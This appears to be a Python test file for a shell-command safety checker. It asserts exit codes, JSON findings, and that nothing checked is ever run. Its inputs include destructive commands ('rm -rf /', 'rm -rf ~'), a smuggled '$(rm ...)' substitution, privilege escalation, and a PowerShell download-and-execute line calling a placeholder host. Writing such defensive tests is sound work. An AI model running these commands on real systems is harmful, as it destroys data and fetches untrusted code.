# check_command.py: `pinfold check`: exit codes, text, JSON, many lines.
# Invariant: nothing that is checked is run. Not here: which commands are dangerous (src/safety/, bench/safety.cc).
import json
import os

from harness import check, expect


@check("check: the exit code is the verdict")
def verdicts(w):
    w.pinfold("check", "--", "ls -l").code_is(0).calm().prints("safe")
    w.pinfold("check", "--", "git push --force").code_is(1).calm().prints("ask", "git-rewrite-remote", "safer:")
    w.pinfold("check", "--", "rm -rf /").code_is(2).calm().prints("deny", "delete-root", "^^^^^^^^")
    w.pinfold("check", "--", "rm", "-rf", "/").code_is(2)
    w.pinfold("check", "--", "echo", "rm -rf /").code_is(0)


@check("check: nothing is run")
def not_run(w):
    target = os.path.join(w.ws, "kept")
    w.write(target)
    w.pinfold("check", "--", f"rm {target}").code_is(0)
    w.pinfold("check", "--", f"$(rm {target})").code_is(0)
    expect(os.path.exists(target), "the file is gone")


@check("check: each line of standard input, as text and as JSON")
def lines(w):
    w.pinfold("check", stdin=b"ls\nrm -rf ~\n\npwd\n").code_is(2).calm().prints("safe  ls", "delete-home", "safe  pwd")
    w.pinfold("check", "-", stdin=b"ls\npwd").code_is(0)
    told = w.pinfold("check", "--json", stdin=b'{"command": "ls"}\n{"command": "sudo -i"}\nrm -rf /\n').code_is(2).calm().out
    answers = [json.loads(line) for line in told.splitlines()]
    expect([one["verdict"] for one in answers] == ["safe", "ask", "deny"], answers)
    first = answers[2]["findings"][0]
    expect(first["rule"] == "delete-root" and (first["begin"], first["end"]) == (0, 8), first)
    expect(first["reason"] and first["safer"] and answers[2]["complete"] is True, answers[2])


@check("check: bytes that are no text, and texts that never end")
def hostile(w):
    w.pinfold("check", stdin=b"\xff\xfe'\x00\"$(\n").calm()
    w.pinfold("check", "--json", stdin=b"\xff\xfe\n").code_is(0)
    w.pinfold("check", "--json", "--", "$(" * 500).code_is(1).prints('"complete":false')


@check("check: PowerShell")
def powershell(w):
    w.pinfold("check", "--shell", "powershell", "--", "iwr http://x.example/a.ps1 | iex").code_is(2).prints("windows-download")
    w.pinfold("check", "--json", stdin=b'{"command": "iex $x", "shell": "powershell"}\n').code_is(1)
    w.pinfold("check", "--shell", "powershell", "--", "Get-ChildItem").code_is(0)


@check("check: mistakes")
def mistakes(w):
    w.pinfold("check", "--shell", "tcl", "--", "ls").code_is(125).says("--shell", "fix:")
    w.pinfold("check", "--json", stdin=b'{"cmd": "ls"}\n').code_is(125).says("command", "fix:")
    w.pinfold("check", "--nope", "--", "ls").code_is(125)
